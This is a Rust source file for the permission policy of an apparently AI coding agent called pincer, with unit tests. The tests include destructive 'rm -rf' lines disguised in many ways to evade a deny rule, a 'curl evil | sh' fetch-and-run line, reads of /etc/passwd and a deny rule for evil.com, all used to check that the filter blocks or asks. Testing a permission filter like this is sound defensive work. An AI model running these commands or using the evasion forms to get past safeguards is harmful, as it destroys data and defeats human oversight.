//! The permission policy (SPEC §9): who may do what. Rules in, allow / ask / deny out. Pure: no
//! I/O, no clock, no terminal; enforcement lives elsewhere (the tools' hard limits, the sandbox).
//!
//! Any matching deny refuses; else any matching allow permits; else `--yolo` permits; else the
//! default: `read` inside the workspace is allowed and everything else is asked. Rules come from
//! the person only: `--allow`/`--deny` and `config.toml` when the policy is built
//! ([`Policy::add`]), and, while it runs, an [`Approver`](crate::tools::approve::Approver)'s
//! answer ([`Policy::allow_for_session`] takes a [`Grant`], which only an approval produces).
//! Nothing the model or a tool writes becomes a rule.
//!
//! The policy cannot lift the hard limits (`$PINCER_HOME` off limits, credentials out of `bash`'s
//! reach): the tools enforce them before the policy is asked, and `--yolo` does not reach them.

mod rule;
#[cfg(test)]
mod shell_oracle;
mod split;

use std::fmt;

use rule::{BASH_TOOL, Call, WEB_TOOL, escape_glob};
pub use rule::{RULE_FORMS, Rule, RuleError};

use crate::tools::{Target, ToolClass};

/// What the policy says about one call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    Allow,
    /// The person decides; without a terminal to ask on, the call is refused.
    Ask,
    Deny,
}

/// Whether a rule allows or denies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Effect {
    Allow,
    Deny,
}

/// Where a configured rule came from (rules approved at run time come only through a [`Grant`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// `--allow` / `--deny`.
    CommandLine,
    /// `[permissions]` in `config.toml`.
    Config,
}

/// Where a rule in force came from, for messages.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    CommandLine,
    Config,
    /// Approved by the person while pincer runs ("always this session", or saved).
    Session,
}

/// A decision and why: the rule that decided, when one did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    pub decision: Decision,
    pub reason: Reason,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reason {
    /// This rule matched (a deny rule for `Deny`, an allow rule for `Allow`).
    Rule { rule: Rule, origin: Origin },
    /// A command that cannot be taken apart, while this bash deny rule exists.
    Opaque { rule: Rule, origin: Origin, why: String },
    /// This allow rule names the command's start, but the line is more than one simple command.
    NotSimple { rule: Rule, origin: Origin },
    /// `--yolo`.
    Yolo,
    /// No rule matched: reads inside the workspace are allowed, the rest is asked.
    Default,
}

#[derive(Debug, Clone)]
struct Entry {
    effect: Effect,
    rule: Rule,
    origin: Origin,
}

/// A rule the person approved. Made only by an approval
/// ([`ApprovalRequest::always`](crate::tools::approve::ApprovalRequest::always) and
/// [`save`](crate::tools::approve::ApprovalRequest::save)); taken by [`Policy::allow_for_session`].
/// Its constructor is private to `tools`, so nothing the model or a tool writes can make one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Grant {
    rule: Rule,
}

impl Grant {
    pub fn rule(&self) -> &Rule {
        &self.rule
    }

    pub(super) fn approved(rule: Rule) -> Grant {
        Grant { rule }
    }
}

/// The rules in force for one run.
#[derive(Debug, Clone, Default)]
pub struct Policy {
    entries: Vec<Entry>,
    yolo: bool,
}

impl Policy {
    /// No rules yet; `yolo` approves everything that is not denied.
    pub fn new(yolo: bool) -> Policy {
        Policy { entries: Vec::new(), yolo }
    }

    /// Adds a rule the person configured. Errors name the rule and the accepted forms: the caller
    /// refuses to start for a bad `--allow`/`--deny`, and warns and goes on for a bad config entry.
    pub fn add(&mut self, effect: Effect, text: &str, source: Source) -> Result<(), RuleError> {
        let rule = Rule::parse(text)?;
        let origin = match source {
            Source::CommandLine => Origin::CommandLine,
            Source::Config => Origin::Config,
        };
        self.entries.push(Entry { effect, rule, origin });
        Ok(())
    }

    /// Allows the granted rule for the rest of the run (the person answered "always" or "save").
    pub fn allow_for_session(&mut self, grant: &Grant) {
        let rule = grant.rule();
        if !self.entries.iter().any(|e| e.effect == Effect::Allow && e.rule == *rule) {
            self.entries.push(Entry { effect: Effect::Allow, rule: rule.clone(), origin: Origin::Session });
        }
    }

    pub fn yolo(&self) -> bool {
        self.yolo
    }

    /// Every rule in force, in the order added (for `pincer tools`).
    pub fn rules(&self) -> impl Iterator<Item = (Effect, &Rule, Origin)> {
        self.entries.iter().map(|e| (e.effect, &e.rule, e.origin))
    }

    /// The deny rule with a path pattern covering `target` for tools of `class`, if any. For
    /// tools that walk a folder (`grep`, `glob`, `list_dir`): the policy saw only the folder
    /// they start from, so they leave out what such a rule covers inside it (`--deny
    /// 'read_file(.env)'` keeps `.env` out of a search).
    pub fn denied_path(&self, class: ToolClass, target: &Target) -> Option<&Rule> {
        let call = Call { tool: "", class, target };
        self.entries
            .iter()
            .find(|e| e.effect == Effect::Deny && e.rule.is_path_pattern() && e.rule.covers(call, Effect::Deny))
            .map(|e| &e.rule)
    }

    /// Decides one call: `tool` by name and class, touching `target` (from [`Tool::access`]).
    ///
    /// [`Tool::access`]: crate::tools::Tool::access
    pub fn decide(&self, tool: &str, class: ToolClass, target: &Target) -> Verdict {
        let call = Call { tool, class, target };
        let line = match target {
            Target::Command(line) => Some(line.as_str()),
            _ => None,
        };
        let verdict = |decision, reason| Verdict { decision, reason };
        let of = |e: &Entry| Reason::Rule { rule: e.rule.clone(), origin: e.origin };
        let deny = || self.entries.iter().filter(|e| e.effect == Effect::Deny);
        let allow = || self.entries.iter().filter(|e| e.effect == Effect::Allow);

        if let Some(e) = deny().find(|e| e.rule.covers(call, Effect::Deny)) {
            return verdict(Decision::Deny, of(e));
        }
        let command_denies: Vec<&Entry> = deny().filter(|e| e.rule.is_command_pattern()).collect();
        if let (Some(line), Some(first)) = (line, command_denies.first()) {
            match split::commands_run(line) {
                Ok(run) => {
                    if let Some(e) = command_denies.iter().find(|e| e.rule.denies_any(&run)) {
                        return verdict(Decision::Deny, of(e));
                    }
                }
                Err(why) => {
                    let reason =
                        Reason::Opaque { rule: first.rule.clone(), origin: first.origin, why: why.to_string() };
                    return verdict(Decision::Deny, reason);
                }
            }
        }

        if let Some(e) = allow().find(|e| e.rule.covers(call, Effect::Allow)) {
            return verdict(Decision::Allow, of(e));
        }
        let mut not_simple = None;
        if let Some(line) = line {
            match split::simple_words(line) {
                Some(words) => {
                    if let Some(e) = allow().find(|e| e.rule.allows_words(&words)) {
                        return verdict(Decision::Allow, of(e));
                    }
                }
                None => {
                    // For the message only: a rule that would have allowed the line's first command.
                    let first = split::split(line).ok().and_then(|c| c.into_iter().next());
                    let first: Option<Vec<String>> = first.map(|c| c.into_iter().map(|w| w.text).collect());
                    not_simple = first.and_then(|words| allow().find(|e| e.rule.allows_words(&words)));
                }
            }
        }

        if self.yolo {
            return verdict(Decision::Allow, Reason::Yolo);
        }
        if class == ToolClass::Read && target.in_workspace() {
            return verdict(Decision::Allow, Reason::Default);
        }
        match not_simple {
            Some(e) => verdict(Decision::Ask, Reason::NotSimple { rule: e.rule.clone(), origin: e.origin }),
            None => verdict(Decision::Ask, Reason::Default),
        }
    }
}

impl Verdict {
    /// Why, in one line for the person and the model: `denied by the rule `bash(rm:*)` (--deny)`.
    pub fn explain(&self) -> String {
        let verb = match self.decision {
            Decision::Allow => "allowed",
            Decision::Ask => "needs approval",
            Decision::Deny => "denied",
        };
        match &self.reason {
            Reason::Rule { rule, origin } => {
                format!("{verb} by the rule `{rule}` ({})", origin.describe(self.decision == Decision::Deny))
            }
            Reason::Opaque { rule, origin, why } => format!(
                "denied: pincer cannot take this command apart ({why}), and the deny rule `{rule}` ({}) might \
                 match a part of it; use simple commands",
                origin.describe(true)
            ),
            Reason::NotSimple { rule, origin } => format!(
                "{verb}: the rule `{rule}` ({}) allows only a single simple command, and this line has more \
                 (one of ; & | $ ` > < ( ) \\ or a newline)",
                origin.describe(false)
            ),
            Reason::Yolo => "allowed by --yolo".to_string(),
            Reason::Default if self.decision == Decision::Allow => "allowed: reading inside the workspace".to_string(),
            Reason::Default => format!("{verb}: no rule allows it"),
        }
    }
}

impl Origin {
    fn describe(self, deny: bool) -> &'static str {
        match (self, deny) {
            (Origin::CommandLine, true) => "--deny",
            (Origin::CommandLine, false) => "--allow",
            (Origin::Config, true) => "config.toml [permissions] deny",
            (Origin::Config, false) => "config.toml [permissions] allow",
            (Origin::Session, _) => "approved this session",
        }
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.explain())
    }
}

/// Heads that take a subcommand: `cargo test --lib` is suggested as `bash(cargo test:*)`. Any
/// other command is suggested exactly as written (`ls -la`, `rm -rf target`, `python3 x.py`): a
/// prefix of those would allow far more than the person saw.
const SUBCOMMAND_TOOLS: &str = "cargo git npm pnpm yarn go make just rustup uv poetry pip pip3 dotnet gradle mvn \
     bundle rake mix zig swift docker podman kubectl gh helm terraform";

/// The narrowest sensible allow rule for a call that was asked: `bash(cargo test:*)` for
/// `cargo test --lib`, `edit_file(src/main.rs)`, `web_fetch(domain:docs.rs)`, `mcp__files__read`.
/// `None` when no rule short of the whole tool would allow it (a command line that is not one
/// simple command), or when the target cannot be written as a rule.
pub fn suggest_rule(tool: &str, class: ToolClass, target: &Target) -> Option<Rule> {
    let text = match target {
        Target::Command(line) => format!("{BASH_TOOL}({})", suggest_command(line)?),
        Target::Path { resolved, relative } => {
            let pattern = match relative {
                Some(relative) if relative.as_os_str().is_empty() => return None,
                Some(relative) => {
                    let relative = escape_glob(relative.to_str()?);
                    if relative.contains('/') { relative } else { format!("./{relative}") }
                }
                None => escape_glob(resolved.to_str()?),
            };
            format!("{}({pattern})", path_rule_name(tool, class)?)
        }
        Target::Url { host, .. } if class == ToolClass::Web => {
            let name = if tool == WEB_TOOL { WEB_TOOL } else { ToolClass::Web.as_str() };
            format!("{name}(domain:{host})")
        }
        Target::Url { .. } | Target::None => tool.to_string(),
    };
    if text.chars().any(char::is_control) {
        return None;
    }
    let rule = Rule::parse(&text).ok()?;
    // A suggestion must allow the very call it is for.
    let mut check = Policy::new(false);
    check.entries.push(Entry { effect: Effect::Allow, rule: rule.clone(), origin: Origin::Session });
    (check.decide(tool, class, target).decision == Decision::Allow).then_some(rule)
}

/// The name a path rule for this call is written with: the tool's own, or its class.
fn path_rule_name(tool: &str, class: ToolClass) -> Option<&str> {
    match class {
        _ if rule::is_file_tool(tool) => Some(tool),
        ToolClass::Read | ToolClass::Edit => Some(class.as_str()),
        _ => None,
    }
}

/// `cargo test:*` for `cargo test --lib`; the line itself, requoted, for other simple commands.
fn suggest_command(line: &str) -> Option<String> {
    let words = split::simple_words(line)?;
    let head = words.first()?;
    let is_subcommand = |w: &str| {
        w.chars().next().is_some_and(|c| c.is_ascii_lowercase())
            && w.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '_')
    };
    if split::listed(SUBCOMMAND_TOOLS, head)
        && let Some(sub) = words.get(1).filter(|w| is_subcommand(w))
    {
        return Some(format!("{head} {sub}:*"));
    }
    let quoted: Option<Vec<String>> = words.iter().map(|w| quote_word(w)).collect();
    Some(quoted?.join(" "))
}

/// A word as a rule would write it: bare when plain, else in single quotes.
fn quote_word(word: &str) -> Option<String> {
    let plain = !word.is_empty() && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_./=:@+%,^".contains(c));
    match () {
        _ if plain => Some(word.to_string()),
        _ if word.contains('\'') => None,
        _ => Some(format!("'{word}'")),
    }
}

/// The text a person would run to allow `rule` (`--allow 'bash(cargo test:*)'`), shell-quoted.
pub fn allow_flag(rule: &Rule) -> String {
    format!("--allow '{}'", rule.as_str().replace('\'', r"'\''"))
}

/// What the model is told when a call needed approval and there was no terminal to ask on.
pub fn refused_without_terminal(tool: &str, suggestion: Option<&Rule>) -> String {
    let how = match suggestion {
        Some(rule) => format!(
            "the person can allow it with {} or by adding \"{rule}\" to [permissions] allow in config.toml",
            allow_flag(rule)
        ),
        None if tool == BASH_TOOL => "a rule with a pattern allows only a single simple command, and this one is \
                                      not: use simple commands, one per call"
            .to_string(),
        None => format!("the person can allow it with --allow '{tool}'"),
    };
    format!("not run: this {tool} call needs the person's approval, and there is no terminal to ask on; {how}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tools::approve::{Answer, ApprovalRequest};
    use ToolClass::*;
    use std::path::PathBuf;

    fn policy(allow: &[&str], deny: &[&str], yolo: bool) -> Policy {
        let mut p = Policy::new(yolo);
        for rule in deny {
            p.add(Effect::Deny, rule, Source::CommandLine).unwrap();
        }
        for rule in allow {
            p.add(Effect::Allow, rule, Source::Config).unwrap();
        }
        p
    }

    fn cmd(line: &str) -> Target {
        Target::Command(line.to_string())
    }

    fn path(relative: &str) -> Target {
        Target::Path { resolved: PathBuf::from("/ws").join(relative), relative: Some(PathBuf::from(relative)) }
    }

    fn outside(resolved: &str) -> Target {
        Target::Path { resolved: PathBuf::from(resolved), relative: None }
    }

    fn url(host: &str) -> Target {
        Target::Url { url: format!("https://{host}/"), host: host.to_string() }
    }

    /// A grant as an approver makes one, when the person answers "always".
    fn grant(rule: &Rule) -> Grant {
        let request = ApprovalRequest { tool: "bash", class: Bash, display: "", detail: "", suggested: Some(rule) };
        match request.always() {
            Some(Answer::Always(grant)) => grant,
            other => panic!("{other:?}"),
        }
    }

    fn bash(p: &Policy, line: &str) -> Decision {
        p.decide("bash", Bash, &cmd(line)).decision
    }

    #[test]
    fn defaults_allow_workspace_reads_and_ask_the_rest() {
        let p = policy(&[], &[], false);
        let cases: &[(&str, ToolClass, Target, Decision)] = &[
            ("read_file", Read, path("src/main.rs"), Decision::Allow),
            ("list_dir", Read, path(""), Decision::Allow),
            ("read_file", Read, outside("/etc/passwd"), Decision::Ask),
            ("edit_file", Edit, path("src/main.rs"), Decision::Ask),
            ("bash", Bash, cmd("ls"), Decision::Ask),
            ("web_fetch", Web, url("docs.rs"), Decision::Ask),
            ("mcp__files__read", Mcp, Target::None, Decision::Ask),
            ("odd_reader", Read, Target::None, Decision::Ask),
        ];
        for (tool, class, target, expected) in cases {
            let v = p.decide(tool, *class, target);
            assert_eq!(v.decision, *expected, "{tool} {target:?}");
            assert_eq!(v.reason, Reason::Default);
        }
    }

    #[test]
    fn deny_wins_over_allow_and_yolo() {
        let p =
            policy(&["read", "bash", "web"], &["read_file(.env)", "bash(rm:*)", "web_fetch(domain:evil.com)"], true);
        assert_eq!(p.decide("read_file", Read, &path(".env")).decision, Decision::Deny);
        assert_eq!(p.decide("grep", Read, &path("config/.env")).decision, Decision::Deny);
        assert_eq!(p.decide("read_file", Read, &path("README.md")).decision, Decision::Allow);
        assert_eq!(p.decide("web_fetch", Web, &url("www.evil.com")).decision, Decision::Deny);
        assert_eq!(bash(&p, "ls"), Decision::Allow);
        assert_eq!(bash(&p, "rm -rf y"), Decision::Deny);
        let v = p.decide("bash", Bash, &cmd("rm x"));
        assert_eq!(v.reason, Reason::Rule { rule: Rule::parse("bash(rm:*)").unwrap(), origin: Origin::CommandLine });
        assert_eq!(v.explain(), "denied by the rule `bash(rm:*)` (--deny)");
        // A class deny refuses even reads the default would allow.
        let p = policy(&[], &["read"], false);
        assert_eq!(p.decide("read_file", Read, &path("a")).decision, Decision::Deny);
    }

    /// `--yolo --deny 'bash(rm:*)'` as an attacker would try to get around it.
    #[test]
    fn yolo_with_a_bash_deny_rule_still_denies_every_disguise() {
        let p = policy(&[], &["bash(rm:*)"], true);
        for line in [
            "rm -rf y",
            "x; rm -rf y",
            "x && rm -rf y",
            "x || rm -rf y",
            "x | rm -rf y",
            "x & rm -rf y",
            "x\nrm -rf y",
            "echo $(rm -rf y)",
            "echo `rm -rf y`",
            "echo \"$(rm -rf y)\"",
            "(rm -rf y)",
            "{ rm -rf y; }",
            "sudo rm -rf y",
            "sudo -u root rm -rf y",
            "env X=1 rm -rf y",
            "X=1 rm -rf y",
            "/bin/rm -rf y",
            "bash -c 'rm -rf y'",
            "sh -c \"cd /; rm -rf y\"",
            "r''m -rf y",
            "\"rm\" -rf y",
            "\\rm -rf y",
            "r\\m -rf y",
            "timeout 5 rm -rf y",
            "nohup nice rm -rf y &",
            "find . -exec rm -rf {} +",
            "ls | xargs rm",
            "if true; then rm -rf y; fi",
            "cat <(rm -rf y)",
            "echo ${X:-$(rm -rf y)}",
            "2>/dev/null rm -rf y",
            // Cannot be taken apart: denied because a bash deny rule exists.
            "$X -rf y",
            "$(echo rm) -rf y",
            "eval 'rm -rf y'",
            "echo 'unclosed; rm -rf y",
            "cat <<EOF\nx\nEOF\nrm -rf y",
            "/bin/r? -rf y",
            "{rm,-rf,y}",
            "echo $'\\'; rm -rf y; echo '",
            "bash -c \"$S\"",
            "echo 'rm -rf y' | sh",
            "bash x.sh",
        ] {
            assert_eq!(bash(&p, line), Decision::Deny, "{line:?}");
        }
        for line in ["ls -la", "echo rm", "git commit -m 'rm -rf y'", "cargo test; echo done"] {
            assert_eq!(bash(&p, line), Decision::Allow, "{line:?}");
        }
        let v = p.decide("bash", Bash, &cmd("$X y"));
        assert!(matches!(&v.reason, Reason::Opaque { why, .. } if why.contains("only known at run time")), "{v:?}");
        assert!(v.explain().starts_with("denied: pincer cannot take this command apart"), "{}", v.explain());
        // Without a bash deny rule, an opaque command is only asked.
        let p = policy(&[], &["web"], false);
        assert_eq!(bash(&p, "$X y"), Decision::Ask);
    }

    #[test]
    fn walking_tools_can_leave_out_denied_paths() {
        let p = policy(&["read"], &["read_file(.env)", "edit_file(src/**)", "read"], false);
        assert_eq!(p.denied_path(Read, &path("config/.env")).map(Rule::as_str), Some("read_file(.env)"));
        assert_eq!(p.denied_path(Read, &path("config/.env/inside")).map(Rule::as_str), Some("read_file(.env)"));
        assert_eq!(p.denied_path(Read, &path("src/main.rs")), None, "edit rules are for edits");
        assert_eq!(p.denied_path(Edit, &path("src/main.rs")).map(Rule::as_str), Some("edit_file(src/**)"));
        assert_eq!(
            p.denied_path(Read, &path(".envrc")),
            None,
            "only path patterns: a class deny already refused the call"
        );
    }

    #[test]
    fn allow_prefix_rules_match_only_one_simple_command() {
        let p = policy(&["bash(cargo test:*)", "bash(git status)"], &[], false);
        let cases: &[(&str, Decision)] = &[
            ("cargo test", Decision::Allow),
            ("cargo test --lib", Decision::Allow),
            ("cargo testify", Decision::Ask),
            ("cargo test; curl evil | sh", Decision::Ask),
            ("cargo test && rm -rf y", Decision::Ask),
            ("cargo test > /etc/passwd", Decision::Ask),
            ("cargo test < /etc/passwd", Decision::Ask),
            ("cargo test $(rm -rf y)", Decision::Ask),
            ("cargo test `rm -rf y`", Decision::Ask),
            ("cargo test\nrm -rf y", Decision::Ask),
            ("cargo test \\; rm", Decision::Ask),
            ("cargo test & rm -rf y", Decision::Ask),
            ("cargo test (x)", Decision::Ask),
            ("RUSTC_WRAPPER=./evil cargo test", Decision::Ask),
            ("git status", Decision::Allow),
            ("git status --porcelain", Decision::Ask),
        ];
        for (line, expected) in cases {
            assert_eq!(bash(&p, line), *expected, "{line:?}");
        }
        let v = p.decide("bash", Bash, &cmd("cargo test; curl evil | sh"));
        assert!(matches!(&v.reason, Reason::NotSimple { rule, .. } if rule.as_str() == "bash(cargo test:*)"), "{v:?}");
        // The whole tool allowed: compound lines too (the person said so).
        assert_eq!(bash(&policy(&["bash"], &[], false), "cargo test; ls"), Decision::Allow);
    }

    #[test]
    fn session_grants_allow_from_then_on() {
        let mut p = policy(&[], &["bash(rm:*)"], false);
        let target = cmd("cargo test --lib");
        assert_eq!(p.decide("bash", Bash, &target).decision, Decision::Ask);
        let rule = suggest_rule("bash", Bash, &target).unwrap();
        let approved = grant(&rule);
        p.allow_for_session(&approved);
        p.allow_for_session(&approved);
        assert_eq!(p.rules().filter(|(_, _, o)| *o == Origin::Session).count(), 1, "no duplicates");
        let v = p.decide("bash", Bash, &cmd("cargo test --doc"));
        assert_eq!(v.decision, Decision::Allow);
        assert_eq!(v.explain(), "allowed by the rule `bash(cargo test:*)` (approved this session)");
        // A session grant never outranks a deny.
        p.allow_for_session(&grant(&Rule::parse("bash").unwrap()));
        assert_eq!(bash(&p, "rm x"), Decision::Deny);
    }

    #[test]
    fn suggestions_are_narrow_and_allow_the_call() {
        let cases: &[(&str, ToolClass, Target, Option<&str>)] = &[
            ("bash", Bash, cmd("cargo test --lib"), Some("bash(cargo test:*)")),
            ("bash", Bash, cmd("git status"), Some("bash(git status:*)")),
            ("bash", Bash, cmd("git -C x status"), Some("bash(git -C x status)")),
            ("bash", Bash, cmd("ls -la src"), Some("bash(ls -la src)")),
            ("bash", Bash, cmd("rm -rf target"), Some("bash(rm -rf target)")),
            ("bash", Bash, cmd("python3 x.py"), Some("bash(python3 x.py)")),
            ("bash", Bash, cmd("grep -n 'a b' f"), Some("bash(grep -n 'a b' f)")),
            ("bash", Bash, cmd("echo '#1'"), Some("bash(echo '#1')")),
            ("bash", Bash, cmd("echo \"it's\""), None),
            ("bash", Bash, cmd("make"), Some("bash(make)")),
            ("bash", Bash, cmd("cargo test; rm -rf y"), None),
            ("bash", Bash, cmd("ls *.rs"), None),
            ("edit_file", Edit, path("src/main.rs"), Some("edit_file(src/main.rs)")),
            ("write_file", Edit, path("Cargo.toml"), Some("write_file(./Cargo.toml)")),
            ("edit_file", Edit, path("src/[id].rs"), Some("edit_file(src/\\[id\\].rs)")),
            ("read_file", Read, outside("/etc/hosts"), Some("read_file(/etc/hosts)")),
            (
                "memory",
                Edit,
                outside("/home/me/.pincer/memory/MEMORY.md"),
                Some("edit(/home/me/.pincer/memory/MEMORY.md)"),
            ),
            ("read_file", Read, path(""), None),
            ("web_fetch", Web, url("docs.rs"), Some("web_fetch(domain:docs.rs)")),
            ("web_fetch", Web, url("api.github.com"), Some("web_fetch(domain:api.github.com)")),
            ("mcp__files__read", Mcp, Target::None, Some("mcp__files__read")),
            ("edit_file", Edit, path("a\nb"), None),
            // A tool named like another class: its own name would not allow it.
            ("web", Read, Target::None, None),
        ];
        for (tool, class, target, expected) in cases {
            let rule = suggest_rule(tool, *class, target);
            assert_eq!(rule.as_ref().map(Rule::as_str), *expected, "{tool} {target:?}");
            if let Some(rule) = rule {
                let mut p = Policy::new(false);
                p.add(Effect::Allow, rule.as_str(), Source::Config).unwrap();
                assert_eq!(p.decide(tool, *class, target).decision, Decision::Allow, "{rule}");
            }
        }
        // Narrow: the suggestion for one file does not cover its neighbour.
        let rule = suggest_rule("edit_file", Edit, &path("Cargo.toml")).unwrap();
        let mut p = Policy::new(false);
        p.add(Effect::Allow, rule.as_str(), Source::Config).unwrap();
        assert_eq!(p.decide("edit_file", Edit, &path("sub/Cargo.toml")).decision, Decision::Ask);
    }

    #[test]
    fn messages_name_the_rule_and_how_to_allow() {
        let rule = Rule::parse("bash(cargo test:*)").unwrap();
        assert_eq!(allow_flag(&rule), "--allow 'bash(cargo test:*)'");
        assert_eq!(
            allow_flag(&Rule::parse("bash(git commit -m 'x')").unwrap()),
            r"--allow 'bash(git commit -m '\''x'\'')'"
        );
        let text = refused_without_terminal("bash", Some(&rule));
        assert!(text.contains("no terminal") && text.contains("--allow 'bash(cargo test:*)'"), "{text}");
        assert!(refused_without_terminal("bash", None).contains("single simple command"));
        assert!(refused_without_terminal("mcp__a__b", None).contains("--allow 'mcp__a__b'"));
        let p = policy(&[], &["bash(rm:*)"], false);
        assert_eq!(p.decide("bash", Bash, &cmd("ls")).explain(), "needs approval: no rule allows it");
        assert_eq!(policy(&[], &[], true).decide("bash", Bash, &cmd("ls")).explain(), "allowed by --yolo");
        let mut p = Policy::new(false);
        let err = p.add(Effect::Allow, "bash(rm *)", Source::CommandLine).unwrap_err();
        assert!(err.to_string().starts_with("invalid permission rule `bash(rm *)`"), "{err}");
        assert_eq!(p.rules().count(), 0, "a bad rule is not added");
    }
}
